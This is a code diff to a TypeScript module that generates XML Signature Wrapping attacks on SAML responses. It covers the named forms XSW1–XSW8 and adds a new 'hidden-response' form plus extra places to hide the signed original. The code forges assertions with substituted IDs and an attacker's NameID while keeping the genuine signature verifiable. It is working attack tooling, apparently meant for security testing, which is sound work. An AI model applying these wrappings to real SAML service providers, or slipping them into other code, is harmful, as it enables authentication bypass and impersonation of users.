@@ -3,8 +3,18 @@
  * reader looks, the signed original is where the signature still finds it. XSW1 to XSW8 are named as SAML Raider names them.
  */
 export interface Wrapping {
-  /** One of the named forms, or `hidden` with the places below. */
-  readonly form: 'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8' | 'hidden';
+  /** One of the named forms, or a `hidden` one with the places below: the signed assertion is hidden, or the whole Response. */
+  readonly form:
+    | 'xsw1'
+    | 'xsw2'
+    | 'xsw3'
+    | 'xsw4'
+    | 'xsw5'
+    | 'xsw6'
+    | 'xsw7'
+    | 'xsw8'
+    | 'hidden'
+    | 'hidden-response';
   /** Where the original goes in a `hidden` form. */
   readonly place?:
     | 'extensions'
@@ -13,7 +23,11 @@ export interface Wrapping {
     | 'attribute-value'
     | 'conditions'
     | 'issuer'
-    | 'name-id';
+    | 'name-id'
+    | 'confirmation-data'
+    | 'authn-context'
+    | 'audience-restriction'
+    | 'key-info';
   /** Where the signature stands in a `hidden` form. */
   readonly signature?: 'original' | 'evil' | 'both';
   /** The forged assertion keeps the original's ID. */
@@ -32,6 +46,7 @@ interface Parts {
 
 export function wrapSignature(xml: string, wrapping: Wrapping): string {
   if (wrapping.form === 'xsw1' || wrapping.form === 'xsw2') return wrapResponse(xml, wrapping.form);
+  if (wrapping.form === 'hidden-response') return hideResponse(xml, wrapping);
   const parts = takeParts(xml, wrapping.keepsId === true);
   const withAssertion = (text: string): string => xml.replace(parts.assertion, () => text);
   const evilSigned = insert(parts.evil, parts.signature);
@@ -72,13 +87,28 @@ function forge(bare: string, keepsId: boolean): string {
   return keepsId ? forged : forged.replace(/ ID="[^"]*"/, ' ID="_evil"');
 }
 
-function wrapResponse(xml: string, form: 'xsw1' | 'xsw2'): string {
+function takeResponse(xml: string): { signature: string; bare: string; evil: string } {
   const signature = find(xml, /<ds:Signature[ >].*?<\/ds:Signature>/s);
   const bare = xml.replace(signature, '');
   const evil = bare
     .replace(/ ID="[^"]*"/, ' ID="_evil-response"')
     .replace(/(<saml:Assertion[^>]*) ID="[^"]*"/, '$1 ID="_evil"')
     .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilNameId}`);
+  return { signature, bare, evil };
+}
+
+function hideResponse(
+  xml: string,
+  { signature: where = 'original', place = 'extensions' }: Wrapping,
+): string {
+  const { signature, bare, evil } = takeResponse(xml);
+  const { before, wrap } = places[place];
+  const around = where === 'original' ? evil : insert(evil, signature);
+  return around.replace(before, () => wrap(where === 'evil' ? bare : xml) + before);
+}
+
+function wrapResponse(xml: string, form: 'xsw1' | 'xsw2'): string {
+  const { signature, bare, evil } = takeResponse(xml);
   return form === 'xsw1'
     ? insert(evil, intoSignature(signature, `<ds:Object>${bare}</ds:Object>`))
     : insert(evil, bare + signature);
@@ -115,6 +145,18 @@ const places: Readonly<Record<NonNullable<Wrapping['place']>, Place>> = {
   'attribute-value': { isInEvil: true, before: '</saml:AttributeValue>', wrap: (original) => original },
   conditions: { isInEvil: true, before: '</saml:Conditions>', wrap: (original) => original },
   'name-id': { isInEvil: true, before: '</saml:NameID>', wrap: (original) => original },
+  'confirmation-data': {
+    isInEvil: true,
+    before: '</saml:SubjectConfirmation>',
+    wrap: as('saml:SubjectConfirmationData'),
+  },
+  'authn-context': { isInEvil: true, before: '</saml:AuthnContext>', wrap: as('saml:AuthnContextDecl') },
+  'audience-restriction': {
+    isInEvil: true,
+    before: '</saml:AudienceRestriction>',
+    wrap: (original) => original,
+  },
+  'key-info': { isInEvil: true, before: '</ds:KeyInfo>', wrap: (original) => original },
 };
 
 function insert(element: string, child: string): string {
